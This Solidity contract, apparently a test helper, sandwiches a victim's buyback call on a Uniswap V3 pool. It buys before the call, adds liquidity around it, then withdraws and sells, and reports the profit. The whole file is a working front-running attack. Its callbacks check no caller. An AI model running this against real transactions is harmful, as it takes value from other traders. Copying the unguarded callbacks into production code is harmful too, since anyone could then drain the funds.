// SPDX-License-Identifier: MIT
pragma solidity 0.8.34;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Address} from "@openzeppelin/contracts/utils/Address.sol";

import {IUniswapV3Pool, IUniswapV3SwapCallback} from "../../../contracts/common/interfaces/IUniswapV3.sol";

/// @notice What a provider of liquidity calls on a pool of Uniswap V3.
interface IBuybackLiquidity {
    /// @notice Adds `amount` of liquidity and asks the caller for the payment.
    function mint(
        address recipient,
        int24 tickLower,
        int24 tickUpper,
        uint128 amount,
        bytes calldata data
    ) external returns (uint256 amount0, uint256 amount1);

    /// @notice Removes `amount` of liquidity, to be collected.
    function burn(int24 tickLower, int24 tickUpper, uint128 amount) external returns (uint256 amount0, uint256 amount1);

    /// @notice Pays out what a position is owed.
    function collect(
        address recipient,
        int24 tickLower,
        int24 tickUpper,
        uint128 amount0Requested,
        uint128 amount1Requested
    ) external returns (uint128 amount0, uint128 amount1);
}

/// @title BuybackAttacker, who trades and provides liquidity around somebody else's purchase
/// @notice Buys, provides, lets the victim buy, takes the liquidity back and sells, all in one transaction or in parts.
contract BuybackAttacker is IUniswapV3SwapCallback {
    /// @dev What to do around the victim's call. `boughtBefore` was bought in an earlier block; where `sellDownTo` is zero, exactly what was bought is
    ///      sold, and otherwise as much as the price takes until there.
    struct Attack {
        uint256 capital;
        uint256 boughtBefore;
        uint128 provided;
        int24 tickLower;
        int24 tickUpper;
        uint160 sellDownTo;
    }

    IERC20 public immutable token;
    IERC20 public immutable xme;
    IUniswapV3Pool public immutable pool;
    bool private immutable _tokenIsToken0;

    constructor(IERC20 token_, IERC20 xme_, IUniswapV3Pool pool_) {
        token = token_;
        xme = xme_;
        pool = pool_;
        _tokenIsToken0 = address(token_) < address(xme_);
    }

    /// @notice Tries `attack_` around `call` to `victim`, and says what this gained of either token, and what the victim said.
    function attack(
        address victim,
        bytes calldata call,
        Attack calldata attack_
    ) external returns (int256 tokenGained, int256 xmeGained, bytes memory answer) {
        int256 tokenBefore = int256(token.balanceOf(address(this)));
        int256 xmeBefore = int256(xme.balanceOf(address(this)));
        uint256 bought = attack_.boughtBefore;
        if (attack_.capital != 0) bought += buy(attack_.capital, 0);
        if (attack_.provided != 0) provide(attack_.tickLower, attack_.tickUpper, attack_.provided);
        answer = Address.functionCall(victim, call);
        if (attack_.provided != 0) withdraw(attack_.tickLower, attack_.tickUpper, attack_.provided);
        _leave(attack_.sellDownTo, bought);
        tokenGained = int256(token.balanceOf(address(this))) - tokenBefore;
        xmeGained = int256(xme.balanceOf(address(this))) - xmeBefore;
    }

    /// @notice Buys XME for `amount` of the token, at most to the price `limit`, which zero leaves open.
    function buy(uint256 amount, uint160 limit) public returns (uint256 bought) {
        return _swap(_tokenIsToken0, amount, limit);
    }

    /// @notice Buys exactly `wanted` of XME, whatever it costs.
    function buyExactly(uint256 wanted) external {
        pool.swap(address(this), _tokenIsToken0, -int256(wanted), _extreme(_tokenIsToken0), "");
    }

    /// @notice Sells `amount` of XME, at most to the price `limit`, which zero leaves open.
    function sell(uint256 amount, uint160 limit) public returns (uint256 received) {
        return _swap(!_tokenIsToken0, amount, limit);
    }

    /// @notice Adds `liquidity` between the two ticks.
    function provide(int24 tickLower, int24 tickUpper, uint128 liquidity) public {
        IBuybackLiquidity(address(pool)).mint(address(this), tickLower, tickUpper, liquidity, "");
    }

    /// @notice Takes `liquidity` and all that the position is owed.
    function withdraw(int24 tickLower, int24 tickUpper, uint128 liquidity) public {
        IBuybackLiquidity position = IBuybackLiquidity(address(pool));
        position.burn(tickLower, tickUpper, liquidity);
        position.collect(address(this), tickLower, tickUpper, type(uint128).max, type(uint128).max);
    }

    /// @notice Pays for a swap.
    function uniswapV3SwapCallback(int256 amount0Delta, int256 amount1Delta, bytes calldata) external {
        _pay(amount0Delta > 0 ? uint256(amount0Delta) : 0, amount1Delta > 0 ? uint256(amount1Delta) : 0);
    }

    /// @notice Pays for liquidity.
    function uniswapV3MintCallback(uint256 amount0Owed, uint256 amount1Owed, bytes calldata) external {
        _pay(amount0Owed, amount1Owed);
    }

    function _leave(uint160 sellDownTo, uint256 bought) private {
        if (sellDownTo == 0) {
            if (bought != 0) sell(bought, 0);
            return;
        }
        (uint160 sqrtPriceX96, , , , , , ) = pool.slot0();
        bool above = _tokenIsToken0 ? sqrtPriceX96 < sellDownTo : sqrtPriceX96 > sellDownTo;
        if (above) sell(xme.balanceOf(address(this)), sellDownTo);
    }

    function _swap(bool zeroForOne, uint256 amount, uint160 limit) private returns (uint256 received) {
        (int256 amount0, int256 amount1) = pool.swap(
            address(this),
            zeroForOne,
            int256(amount),
            limit == 0 ? _extreme(zeroForOne) : limit,
            ""
        );
        return uint256(-(zeroForOne ? amount1 : amount0));
    }

    function _extreme(bool zeroForOne) private pure returns (uint160) {
        return zeroForOne ? 4_295_128_740 : 1_461_446_703_485_210_103_287_273_052_203_988_822_378_723_970_341;
    }

    function _pay(uint256 amount0, uint256 amount1) private {
        (IERC20 token0, IERC20 token1) = _tokenIsToken0 ? (token, xme) : (xme, token);
        if (amount0 != 0) token0.transfer(msg.sender, amount0);
        if (amount1 != 0) token1.transfer(msg.sender, amount1);
    }
}
